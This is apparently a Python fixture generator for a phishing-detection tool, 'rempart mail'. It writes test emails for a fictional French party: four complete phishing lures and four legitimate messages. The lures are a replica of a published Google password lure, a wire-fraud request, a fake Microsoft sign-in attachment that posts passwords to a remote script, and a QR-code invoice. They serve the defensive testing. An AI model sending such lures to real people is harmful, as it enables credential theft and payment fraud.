"""Writes the case fixtures of ``rempart mail``: lures modelled on public cases and the
legitimate campaign mail that must stay clean. Run it to regenerate the ``.eml`` files:

    .venv/bin/python tests/mail/samples/cases/make_cases.py

Every name is fictional ("Parti Exemple", campaign-party.org, parti-exemple.fr);
attacker infrastructure uses reserved or look-alike names that are never contacted.
"""

from __future__ import annotations

import io
import sys
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).parent
sys.path.append(str(HERE.parent))

from _mime import RELAY, write_samples  # noqa: E402


def received(helo: str, ip: str, when: datetime, to: str) -> str:
    return (
        f"from {helo} ({helo} [{ip}]) by {RELAY} (Postfix) with ESMTPS id 4Xk2Q1 "
        f"for <{to}>; {format_datetime(when)}"
    )


def base(
    subject: str,
    from_: str,
    to: str,
    when: datetime,
    *,
    helo: str,
    ip: str,
    auth: str,
    reply_to: str | None = None,
    return_path: str | None = None,
    msgid: str,
) -> EmailMessage:
    m = EmailMessage()
    addr = to.split("<")[-1].rstrip(">")
    if return_path:
        m["Return-Path"] = f"<{return_path}>"
    m["Received"] = received(helo, ip, when, addr)
    m["Authentication-Results"] = f"{RELAY}; {auth}"
    m["From"] = from_
    m["To"] = to
    if reply_to:
        m["Reply-To"] = reply_to
    m["Subject"] = subject
    m["Date"] = format_datetime(when)
    m["Message-ID"] = msgid
    return m


def podesta_lure() -> EmailMessage:
    """The 19 March 2016 lure, as published: 'Google' <no-reply@accounts.googlemail.com>,
    'Someone has your password', CHANGE PASSWORD → bit.ly; here sent to the candidate,
    and our own server saw SPF and DMARC fail (it did not come from Google)."""
    when = datetime(2016, 3, 19, 8, 34, 30, tzinfo=UTC)
    m = base(
        "*Someone has your password*",
        "Google <no-reply@accounts.googlemail.com>",
        "Camille Exemple <camille.exemple@parti-exemple.fr>",
        when,
        helo="mail.accounts-googlemail.ru",
        ip="203.0.113.77",
        auth="spf=fail smtp.mailfrom=accounts.googlemail.com; dkim=none; "
        "dmarc=fail (p=quarantine) header.from=accounts.googlemail.com",
        return_path="no-reply@accounts.googlemail.com",
        msgid="<lure-2016-0319@example.invalid>",
    )
    text = (
        "Someone has your password\nHi Camille\nSomeone just used your password to try to "
        "sign in to your Google Account camille.exemple@parti-exemple.fr.\nDetails:\n"
        "Saturday, 19 March, 8:34:30 UTC\nIP Address: 134.249.139.239\nLocation: Ukraine\n"
        "Google stopped this sign-in attempt. You should change your password immediately.\n"
        "CHANGE PASSWORD <https://bit.ly/1PibSU0>\nBest,\nThe Gmail Team\n"
    )
    html = (
        '<html><body><div><img src="cid:logo" alt="Google"></div>'
        "<p>Someone has your password</p><p>Hi Camille</p><p>Someone just used your "
        "password to try to sign in to your Google Account "
        '<a href="https://bit.ly/1PibSU0">camille.exemple@parti-exemple.fr</a>.</p>'
        "<p>Details:<br>Saturday, 19 March, 8:34:30 UTC<br>IP Address: 134.249.139.239<br>"
        "Location: Ukraine</p><p>Google stopped this sign-in attempt. You should change your "
        "password immediately.</p>"
        '<p><a href="https://bit.ly/1PibSU0" style="background:#4285f4;color:#fff;'
        'padding:10px">CHANGE PASSWORD</a></p>'
        '<p>Or go to <a href="https://bit.ly/1PibSU0">https://myaccount.google.com/security'
        "</a></p><p>Best,<br>The Gmail Team</p></body></html>"
    )
    m.set_content(text)
    m.add_alternative(html, subtype="html")
    return m


def treasurer_wire_fr() -> EmailMessage:
    """'Fraude au président': the candidate's name from a free-mail address, Reply-To on a
    look-alike of the party's domain (campaign-partty.org), an urgent confidential transfer
    to a new IBAN."""
    when = datetime(2026, 3, 28, 7, 12, tzinfo=UTC)
    m = base(
        "Virement urgent - confidentiel",
        "Camille Exemple <camille.exemple.2027@gmail.com>",
        "Dominique Martin <tresorier@parti-exemple.fr>",
        when,
        helo="mail-sor-f41.google.com",
        ip="209.85.220.41",
        auth="spf=pass smtp.mailfrom=gmail.com; dkim=pass header.d=gmail.com; "
        "dmarc=pass header.from=gmail.com",
        reply_to="Camille Exemple <camille.exemple@campaign-partty.org>",
        return_path="camille.exemple.2027@gmail.com",
        msgid="<CAF7x2@mail.gmail.com>",
    )
    m.set_content(
        "Dominique,\n\nJ'ai besoin que tu effectues un virement urgent de 14 800 EUR aujourd'hui "
        "pour la salle du meeting de Lyon. Le prestataire a changé de banque, voici ses nouvelles "
        "coordonnées bancaires :\nIBAN FR76 3000 6000 0112 3456 7890 189\nBIC AGRIFRPP\n\n"
        "Reste discret pour le moment, je t'expliquerai ce soir. Je suis en réunion, réponds "
        "seulement par mail.\n\nCamille\nEnvoyé de mon iPhone\n"
    )
    return m


def credential_html_attachment() -> EmailMessage:
    """A 'mailbox full' notice with a local credential page in an HTML attachment (a fake
    Microsoft 365 sign-in posting the password to a remote script)."""
    when = datetime(2026, 2, 2, 16, 5, tzinfo=UTC)
    m = base(
        "Votre boîte aux lettres a atteint son quota de stockage",
        "Administrateur Messagerie <admin@mailbox-quota-service.top>",
        "Alex Durand <alex.durand@campaign-party.org>",
        when,
        helo="vps-4471.hosting.example",
        ip="198.51.100.23",
        auth="spf=none smtp.mailfrom=mailbox-quota-service.top; dkim=none; "
        "dmarc=none header.from=mailbox-quota-service.top",
        return_path="admin@mailbox-quota-service.top",
        msgid="<q-88121@mailbox-quota-service.top>",
    )
    m.set_content(
        "Votre boîte aux lettres a atteint 99 % de son quota. Les nouveaux messages "
        "seront bloqués sous 24 heures.\nOuvrez la pièce jointe et connectez-vous "
        "pour vérifier votre compte et augmenter votre quota.\n\nService informatique"
    )
    page = (
        "<!DOCTYPE html><html><head><title>Sign in to your account</title></head><body>"
        '<div class="logo">Microsoft</div><h1>Sign in</h1>'
        '<form method="post" action="https://login-microsoftonline.mailbox-quota-service.'
        'top/owa/post.php"><input type="email" name="login" '
        'value="alex.durand@campaign-party.org"><input type="password" name="passwd" '
        'placeholder="Password"><button type="submit">Sign in</button></form>'
        "</body></html>"
    )
    m.add_attachment(
        page.encode(), maintype="text", subtype="html", filename="Verification_Messagerie.html"
    )
    return m


def qr_invoice() -> EmailMessage:
    """Quishing: an unpaid 'invoice' whose only way to pay is a QR code in an image."""
    import zxingcpp

    when = datetime(2026, 1, 15, 9, 30, tzinfo=UTC)
    m = base(
        "Facture impayée n° 2027-0118 - dernier rappel",
        "Service Comptabilité <compta@imprimerie-rapide-facturation.xyz>",
        "Dominique Martin <tresorier@parti-exemple.fr>",
        when,
        helo="smtp.imprimerie-rapide-facturation.xyz",
        ip="192.0.2.200",
        auth="spf=pass smtp.mailfrom=imprimerie-rapide-facturation.xyz; dkim=none; "
        "dmarc=none header.from=imprimerie-rapide-facturation.xyz",
        return_path="compta@imprimerie-rapide-facturation.xyz",
        msgid="<inv-20270118@imprimerie-rapide-facturation.xyz>",
    )
    m.set_content(
        "Bonjour,\n\nSauf erreur de notre part, la facture n° 2027-0118 (tracts et "
        "affiches, 3 480 EUR) reste impayée. Faute de règlement sous 48 heures, des "
        "frais de retard seront appliqués.\nScannez le QR code ci-joint avec votre "
        "téléphone pour régler en ligne.\n\nCordialement,\nService Comptabilité\n"
    )
    code = zxingcpp.create_barcode(
        "https://pay-invoice-2027.r2.dev/facture?id=20270118", zxingcpp.BarcodeFormat.QRCode
    )
    buf = io.BytesIO()
    import numpy as np
    from PIL import Image

    pixels = np.array(code.to_image(scale=8, add_quiet_zones=True))
    Image.fromarray(pixels).save(buf, format="PNG")
    m.add_attachment(
        buf.getvalue(), maintype="image", subtype="png", filename="QR_paiement_facture.png"
    )
    return m


def newsletter() -> EmailMessage:
    """The party's own newsletter, sent through a mailing service (bounces to the service,
    DKIM-signed for campaign-party.org, tracking links, List-Unsubscribe)."""
    when = datetime(2026, 3, 1, 18, 0, tzinfo=UTC)
    m = base(
        "La lettre de Parti Exemple - mars 2027",
        "Parti Exemple <lettre@campaign-party.org>",
        "alex.durand@campaign-party.org",
        when,
        helo="mta-12.mailing-service.example",
        ip="192.0.2.12",
        auth="spf=pass smtp.mailfrom=bounces.mailing-service.example; "
        "dkim=pass header.d=campaign-party.org; dmarc=pass header.from=campaign-party.org",
        return_path="bounce-8812-alex.durand=campaign-party.org@bounces.mailing-service.example",
        msgid="<nl-2027-03.8812@mailing-service.example>",
    )
    m["List-Unsubscribe"] = "<https://click.mailing-service.example/unsub/8812>"
    m["List-Id"] = "Lettre Parti Exemple <lettre.campaign-party.org>"
    links = [
        ("Lire l'éditorial de Camille Exemple", "ed"),
        ("Les dates des réunions publiques", "dates"),
        ("Devenir bénévole", "benevole"),
        ("Faire un don", "don"),
    ]
    items = "".join(
        f'<p><a href="https://click.mailing-service.example/c/8812/{k}">{t}</a></p>'
        for t, k in links
    )
    m.set_content(
        "La lettre de mars : éditorial, réunions publiques, bénévolat.\n"
        "Se désinscrire : https://click.mailing-service.example/unsub/8812\n"
    )
    m.add_alternative(
        f"<html><body><h1>La lettre de Parti Exemple</h1>{items}"
        '<p><img src="https://click.mailing-service.example/o/8812.gif" '
        'width="1" height="1" alt=""></p><p><a href="https://click.'
        'mailing-service.example/unsub/8812">Se désinscrire</a></p>'
        "</body></html>",
        subtype="html",
    )
    return m


def donation_receipt() -> EmailMessage:
    """A donor's receipt from the party's payment provider, with the PDF receipt."""
    when = datetime(2026, 2, 20, 11, 0, tzinfo=UTC)
    m = base(
        "Votre reçu de don à Parti Exemple",
        "Parti Exemple - Dons <dons@parti-exemple.fr>",
        "Dominique Martin <tresorier@parti-exemple.fr>",
        when,
        helo="smtp-out.parti-exemple.fr",
        ip="192.0.2.5",
        auth="spf=pass smtp.mailfrom=parti-exemple.fr; dkim=pass header.d=parti-exemple.fr; "
        "dmarc=pass header.from=parti-exemple.fr",
        return_path="dons@parti-exemple.fr",
        msgid="<don-20270220-4411@parti-exemple.fr>",
    )
    m.set_content(
        "Merci pour votre don de 50 EUR du 20 février 2027 à Parti Exemple.\n"
        "Vous trouverez ci-joint votre reçu fiscal, qui ouvre droit à une réduction "
        "d'impôt de 66 % du montant versé.\nRetrouvez vos dons sur "
        "https://dons.parti-exemple.fr/mon-espace\n\nL'équipe de Parti Exemple\n"
    )
    pdf = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids"
        b"[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
        b"endobj\nxref\n0 4\n0000000000 65535 f \ntrailer<</Size 4/Root 1 0 R>>\n%%EOF\n"
    )
    m.add_attachment(pdf, maintype="application", subtype="pdf", filename="recu-fiscal-4411.pdf")
    return m


def press_request_gmail() -> EmailMessage:
    """A real journalist writing from a free-mail address to ask for an interview."""
    when = datetime(2026, 3, 10, 14, 20, tzinfo=UTC)
    m = base(
        "Demande d'interview - portrait de Camille Exemple",
        "Claire Moreau <claire.moreau.journaliste@gmail.com>",
        "presse@parti-exemple.fr",
        when,
        helo="mail-ej1-f44.google.com",
        ip="209.85.218.44",
        auth="spf=pass smtp.mailfrom=gmail.com; dkim=pass header.d=gmail.com; "
        "dmarc=pass header.from=gmail.com",
        return_path="claire.moreau.journaliste@gmail.com",
        msgid="<CAJ9k2xq@mail.gmail.com>",
    )
    m.set_content(
        "Bonjour,\n\nJe suis journaliste pigiste et je prépare un portrait de Camille "
        "Exemple pour un hebdomadaire régional. Serait-il possible d'obtenir un "
        "entretien de trente minutes la semaine prochaine, par téléphone ou à votre "
        "permanence ?\n\nBien cordialement,\nClaire Moreau\n06 12 34 56 78\n"
    )
    return m


def calendar_invitation() -> EmailMessage:
    """A colleague's meeting invitation (text/calendar), through the party's own server."""
    when = datetime(2026, 3, 3, 9, 0, tzinfo=UTC)
    m = base(
        "Invitation: Réunion d'équipe - organisation du meeting @ lun. 8 mars 2027 10:00",
        "Alex Durand <alex.durand@campaign-party.org>",
        "Dominique Martin <tresorier@parti-exemple.fr>",
        when,
        helo="smtp-out.campaign-party.org",
        ip="192.0.2.6",
        auth="spf=pass smtp.mailfrom=campaign-party.org; dkim=pass header.d=campaign-party.org;"
        " dmarc=pass header.from=campaign-party.org",
        return_path="alex.durand@campaign-party.org",
        msgid="<cal-8812@campaign-party.org>",
    )
    m.set_content(
        "Réunion d'équipe pour organiser le meeting de Lyon.\nLieu : permanence, "
        "12 rue de l'Exemple.\n"
    )
    ics = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Parti Exemple//FR\r\nMETHOD:REQUEST\r\n"
        "BEGIN:VEVENT\r\nUID:8812@campaign-party.org\r\nDTSTAMP:20270303T090000Z\r\n"
        "DTSTART:20270308T090000Z\r\nDTEND:20270308T100000Z\r\nSUMMARY:Réunion d'équipe\r\n"
        "ORGANIZER:mailto:alex.durand@campaign-party.org\r\n"
        "ATTENDEE:mailto:tresorier@parti-exemple.fr\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    m.add_attachment(
        ics.encode(),
        maintype="text",
        subtype="calendar",
        filename="invite.ics",
        params={"method": "REQUEST"},
    )
    return m


CASES = {
    "podesta_lure": podesta_lure,
    "treasurer_wire_fr": treasurer_wire_fr,
    "credential_html_attachment": credential_html_attachment,
    "qr_invoice": qr_invoice,
    "newsletter": newsletter,
    "donation_receipt": donation_receipt,
    "press_request_gmail": press_request_gmail,
    "calendar_invitation": calendar_invitation,
}


def main() -> None:
    write_samples(HERE, CASES, say=True)


if __name__ == "__main__":
    main()
